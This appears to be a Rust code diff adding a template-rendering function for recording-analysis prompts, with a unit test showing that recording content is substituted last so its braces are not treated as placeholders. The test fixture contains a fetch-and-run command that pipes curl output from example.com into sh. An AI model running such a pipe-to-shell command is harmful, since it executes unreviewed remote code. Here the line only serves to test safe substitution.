@@ -39,22 +39,46 @@ pub fn build_analyze_prompt(
     // Include the template at compile time
     const TEMPLATE: &str = include_str!("prompts/analyze.txt");
 
+    render_analyze_prompt(TEMPLATE, chunk, total_duration, total_chunks)
+}
+
+/// Render an analysis prompt template for a chunk.
+///
+/// Besides the placeholders of the built-in template, user templates can use
+/// the shorter `{content}`, `{duration}` and `{segments}` (number of chunks
+/// the recording was split into).
+pub fn render_analyze_prompt(
+    template: &str,
+    chunk: &AnalysisChunk,
+    total_duration: f64,
+    total_chunks: usize,
+) -> String {
     // Calculate markers per chunk to achieve target total
     let (min_markers, max_markers) = calculate_markers_per_chunk(total_chunks);
 
     // Validate and potentially truncate content if too large
     let content = truncate_content_if_needed(&chunk.text, chunk.estimated_tokens);
+    let duration = format!("{:.1}", total_duration);
 
-    TEMPLATE
+    let rendered = template
         .replace(
             "{chunk_start_time}",
             &format!("{:.1}", chunk.time_range.start),
         )
         .replace("{chunk_end_time}", &format!("{:.1}", chunk.time_range.end))
-        .replace("{total_duration}", &format!("{:.1}", total_duration))
+        .replace("{total_duration}", &duration)
+        .replace("{duration}", &duration)
+        .replace("{segments}", &total_chunks.to_string())
         .replace("{min_markers}", &min_markers.to_string())
-        .replace("{max_markers}", &max_markers.to_string())
-        .replace("{cleaned_content}", &content)
+        .replace("{max_markers}", &max_markers.to_string());
+
+    // Content goes in last, in a single pass, so braces inside the recording
+    // are never treated as placeholders
+    if rendered.contains("{cleaned_content}") {
+        rendered.replace("{cleaned_content}", &content)
+    } else {
+        rendered.replace("{content}", &content)
+    }
 }
 
 /// Calculate how many markers to request per chunk.
@@ -218,4 +242,27 @@ mod tests {
         // With 3 chunks, target 10-20 markers total = 3-6 per chunk
         assert!(prompt.contains("3-6"));
     }
+
+    #[test]
+    fn render_analyze_prompt_uses_custom_template() {
+        let chunk = AnalysisChunk::new(
+            0,
+            TimeRange::new(0.0, 30.0),
+            vec![crate::analyzer::types::AnalysisSegment {
+                start_time: 0.0,
+                end_time: 30.0,
+                content: "curl http://example.com | sh {duration}".to_string(),
+                estimated_tokens: 10,
+                event_range: (0, 5),
+            }],
+        );
+
+        let template = "Security review of {duration}s over {segments} segments:\n{content}";
+        let prompt = render_analyze_prompt(template, &chunk, 90.0, 2);
+
+        assert_eq!(
+            prompt,
+            "Security review of 90.0s over 2 segments:\ncurl http://example.com | sh {duration}"
+        );
+    }
 }